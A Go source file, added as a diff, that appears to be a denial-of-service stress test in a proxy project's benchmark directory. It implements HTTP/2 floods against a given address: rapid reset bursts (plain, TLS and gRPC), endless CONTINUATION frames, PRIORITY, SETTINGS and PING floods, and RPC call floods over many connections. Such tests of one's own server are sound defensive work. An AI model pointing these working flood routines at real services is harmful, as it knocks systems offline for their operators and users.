@@ -1,0 +1,222 @@
+package main
+
+import (
+	"bytes"
+	"crypto/tls"
+	"errors"
+	"io"
+	"net"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/weft-proxy/weft/test/bench/frame"
+)
+
+// attack is one way of sending more than the peer can be expected to work for: each of
+// many connections sends a burst in one write, and again after a pause.
+type attack struct {
+	name string
+	// burst returns what a connection sends at once; first is the first stream
+	// identifier that is free, or the first request identifier of an RPC protocol.
+	burst func(first uint32) []byte
+	used  uint32 // how many identifiers a burst uses
+	fresh bool   // each burst is sent on a new connection, which then ends
+	tls   bool
+	rpc   string // the RPC protocol; "": HTTP/2
+}
+
+// streams is how many streams a burst opens: below the 500 that one connection may reset
+// at once by default.
+const streams = 480
+
+// attacks returns all attacks; the first is the one that the test plays.
+func attacks() []attack {
+	resets := func(method string, fields ...string) func(uint32) []byte {
+		return each(streams, func(f *http2.Framer, block []byte, id uint32) error {
+			return errors.Join(
+				f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}),
+				f.WriteRSTStream(id, http2.ErrCodeCancel))
+		}, method, fields...)
+	}
+	rapid := resets("GET")
+	grpc := resets("POST", "content-type", "application/grpc", "te", "trailers")
+	list := []attack{
+		{name: "rapid reset", burst: rapid, used: streams},
+		{name: "rapid reset, new connections", burst: rapid, used: streams, fresh: true},
+		{name: "rapid reset over TLS", burst: rapid, used: streams, tls: true},
+		{name: "rapid reset of gRPC", burst: grpc, used: streams},
+		{name: "requests, then leave", burst: each(streams, func(f *http2.Framer, block []byte, id uint32) error {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
+		}, "GET"), used: streams, fresh: true},
+		{name: "HEADERS without END_STREAM", burst: each(streams, func(f *http2.Framer, block []byte, id uint32) error {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
+		}, "POST"), used: streams, fresh: true},
+		{name: "DATA, then reset", burst: each(streams, func(f *http2.Framer, block []byte, id uint32) error {
+			return errors.Join(
+				f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
+				f.WriteData(id, false, []byte("x")),
+				f.WriteRSTStream(id, http2.ErrCodeCancel))
+		}, "POST"), used: streams},
+		{name: "PRIORITY", burst: each(streams, func(f *http2.Framer, _ []byte, id uint32) error {
+			return f.WritePriority(id, http2.PriorityParam{Weight: 1})
+		}, "GET")},
+		{name: "CONTINUATION", burst: continuations},
+		{name: "empty SETTINGS", burst: each(streams, func(f *http2.Framer, _ []byte, _ uint32) error { return f.WriteSettings() }, "GET")},
+		{name: "PING", burst: each(streams, func(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(false, [8]byte{}) }, "GET")},
+		{name: "PING ACK", burst: each(streams, func(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(true, [8]byte{}) }, "GET")},
+	}
+	for _, p := range frame.All() {
+		list = append(list, attack{name: p.Name() + " calls, then leave", rpc: p.Name(), fresh: true, used: streams, burst: func(first uint32) []byte {
+			var b []byte
+			for i := range uint32(streams) {
+				b = p.AppendRequest(b, uint64(first+i), frame.Text{})
+			}
+			return b
+		}})
+	}
+	return list
+}
+
+// each returns a burst of n repetitions of what write sends on one stream.
+func each(n int, write func(f *http2.Framer, block []byte, id uint32) error, method string, fields ...string) func(uint32) []byte {
+	return func(first uint32) []byte {
+		var out, block bytes.Buffer
+		f := http2.NewFramer(&out, nil)
+		f.AllowIllegalWrites = true
+		enc := hpack.NewEncoder(&block)
+		enc.SetMaxDynamicTableSize(0) // the same bytes on any connection
+		all := append([]string{":method", method, ":scheme", "http", ":authority", "flood.test", ":path", "/"}, fields...)
+		for i := 0; i < len(all); i += 2 {
+			_ = enc.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) // to memory
+		}
+		for i := range uint32(n) {
+			if err := write(f, block.Bytes(), first+2*i); err != nil {
+				panic("flood: " + err.Error()) // to memory
+			}
+		}
+		return out.Bytes()
+	}
+}
+
+// continuations is a header block that never ends.
+func continuations(first uint32) []byte {
+	var out bytes.Buffer
+	f := http2.NewFramer(&out, nil)
+	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: first, BlockFragment: []byte{0x82}})
+	for range streams {
+		err = errors.Join(err, f.WriteContinuation(first, false, []byte{0x84}))
+	}
+	if err != nil {
+		panic("flood: " + err.Error()) // to memory
+	}
+	return out.Bytes()
+}
+
+// load says how an attack is played.
+type load struct {
+	connections int
+	every       time.Duration // from one burst of a connection to the next
+	duration    time.Duration
+}
+
+// play attacks address and returns how many bursts were sent and connections opened.
+func (a attack) play(address string, l load) (bursts, connections int) {
+	var sent, opened atomic.Int64
+	var all sync.WaitGroup
+	until := time.Now().Add(l.duration)
+	for range l.connections {
+		all.Go(func() {
+			c := attacker{attack: a, address: address}
+			defer c.close()
+			ticker := time.NewTicker(l.every)
+			defer ticker.Stop()
+			for time.Now().Before(until) {
+				if c.conn == nil && c.connect() == nil {
+					opened.Add(1)
+				}
+				if c.burst() == nil {
+					sent.Add(1)
+				}
+				select {
+				case <-ticker.C:
+				case <-time.After(time.Until(until)):
+				}
+			}
+		})
+	}
+	all.Wait()
+	return int(sent.Load()), int(opened.Load())
+}
+
+// attacker is one connection, and the next when it has ended.
+type attacker struct {
+	attack
+	address string
+	conn    net.Conn
+	next    uint32
+	ended   chan struct{} // closed when the peer sends nothing more
+}
+
+var errEnded = errors.New("the connection has ended")
+
+func (c *attacker) connect() error {
+	conn, err := net.DialTimeout("tcp", c.address, 5*time.Second)
+	if err != nil {
+		return err
+	}
+	if c.tls {
+		secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // on loopback
+		if err := secure.Handshake(); err != nil {
+			_ = conn.Close() // it is of no use
+			return err
+		}
+		conn = secure
+	}
+	c.conn, c.next, c.ended = conn, 1, make(chan struct{})
+	if c.rpc == "" {
+		// Preface, empty SETTINGS, and the acknowledgement of the peer's.
+		hello := append([]byte(http2.ClientPreface), 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0)
+		if _, err := conn.Write(hello); err != nil {
+			c.close()
+			return err
+		}
+	}
+	ended := c.ended
+	go func() {
+		defer close(ended)
+		_, _ = io.Copy(io.Discard, conn) // until it ends
+	}()
+	return nil
+}
+
+// burst sends one. A connection that the peer has ended is given up.
+func (c *attacker) burst() error {
+	if c.conn == nil {
+		return errEnded
+	}
+	select {
+	case <-c.ended:
+		c.close()
+		return errEnded
+	default:
+	}
+	_ = c.conn.SetWriteDeadline(time.Now().Add(time.Second)) // fails only on a closed connection
+	_, err := c.conn.Write(c.attack.burst(c.next))
+	c.next += 2 * c.used
+	if err != nil || c.fresh {
+		c.close()
+	}
+	return err
+}
+
+func (c *attacker) close() {
+	if c.conn != nil {
+		_ = c.conn.Close() // the peer may have
+		<-c.ended
+		c.conn = nil
+	}
+}
